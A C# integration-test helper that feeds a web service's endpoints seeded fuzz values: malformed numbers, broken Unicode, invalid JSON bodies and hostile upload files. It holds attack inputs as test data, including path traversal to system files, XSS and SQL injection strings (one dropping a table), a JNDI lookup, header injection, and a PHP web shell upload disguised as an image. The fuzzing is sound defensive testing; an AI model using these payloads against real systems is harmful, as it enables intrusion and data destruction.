using System.Text;

namespace Vetrina.IntegrationTests;

/// <summary>
/// What a fuzzer puts where a value goes: wrong types, extreme numbers, huge and empty strings, Unicode that breaks
/// naive code (lone surrogates, right-to-left overrides, combining marks, NUL), path traversal, markup and SQL. Every
/// pick comes from a seeded generator, so a failing run is replayed exactly.
/// </summary>
internal sealed class NastyValues(int seed)
{
    public static readonly string Huge = new('x', 200_000);

    /// <summary>Strings for a text field, a path segment or a query value.</summary>
    public static readonly IReadOnlyList<string> Strings =
    [
        "", " ", "0", "-1", "-0", "2147483648", "-9223372036854775809", "99999999999999999999999999999", "1e309", "-1e-400", "NaN", "Infinity",
        "0x7fffffff", "1,5", "١٢٣", "true", "null", "[]", "{}", "\0", "a\0b", "\u202Eevil", "\uFEFF", "\uD800", "e\u0301\u0301\u0301\u0301",
        "😀👩‍👩‍👧‍👦", "한국어 텍스트", "Ünïcödé", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/dev/zero",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "'; DROP TABLE orders_orders;--", "{{7*7}}", "${jndi:ldap://x}",
        "\r\nX-Injected: 1", "a@b", "@", "VT-0", "IT", "KRW", "2026-02-30", "9999-12-31T23:59:59Z", "0001-01-01", Huge,
        new string('9', 400), string.Concat(Enumerable.Repeat("가", 5_000)),
    ];

    private readonly Random random = new(seed);

    public string AnyString() => Strings[random.Next(Strings.Count)];

    /// <summary>A JSON value of any type, most of them wrong for wherever it is put.</summary>
    public string AnyJson() => random.Next(12) switch
    {
        0 => "null",
        1 => "true",
        2 => "1e308",
        3 => "-1.7976931348623157e308",
        4 => "18446744073709551616",
        5 => "0.0000000000000000000000000000001",
        6 => "[]",
        7 => "{}",
        8 => "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
        9 => "-0",
        _ => System.Text.Json.JsonSerializer.Serialize(AnyString()),
    };

    /// <summary>Bodies that are not JSON, or JSON no endpoint expects.</summary>
    public static readonly IReadOnlyList<string> BrokenBodies =
    [
        "", "{", "{\"a\":", "{\"a\":1,}", "[1,2", "nul", "\"unterminated", "{\"a\":1}{\"b\":2}", "\uFEFF{}", "{\"a\":\"\\uD800\"}", "{\"__proto__\":{}}",
        new string('[', 10_000) + new string(']', 10_000), "{\"a\":" + new string('9', 5_000) + "}",
        "{" + string.Join(',', Enumerable.Range(0, 5_000).Select(i => $"\"k{i}\":{i}")) + "}", "<xml/>", "a=1&b=2",
    ];

    public string AnyBrokenBody() => BrokenBodies[random.Next(BrokenBodies.Count)];

    /// <summary>A file for an upload field: a name that climbs out of folders, and content its name lies about.</summary>
    public (string Name, byte[] Content) AnyFile() => random.Next(6) switch
    {
        0 => ("../../../../tmp/evil.jpg", Encoding.ASCII.GetBytes("<?php system($_GET['c']); ?>")),
        1 => ("photo.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0xFF, 0xFF]),
        2 => ("..\\..\\boot.ini", []),
        3 => ("ok.csv", Encoding.UTF8.GetBytes("sku,price\n\"unterminated,1e309\n" + Huge)),
        4 => ("\u202Egpj.exe", Encoding.ASCII.GetBytes("MZ\u0090\0")),
        _ => (new string('a', 1_000) + ".gif", Encoding.ASCII.GetBytes("GIF89a" + new string('\0', 64))),
    };

    public int Next(int below) => random.Next(below);
}
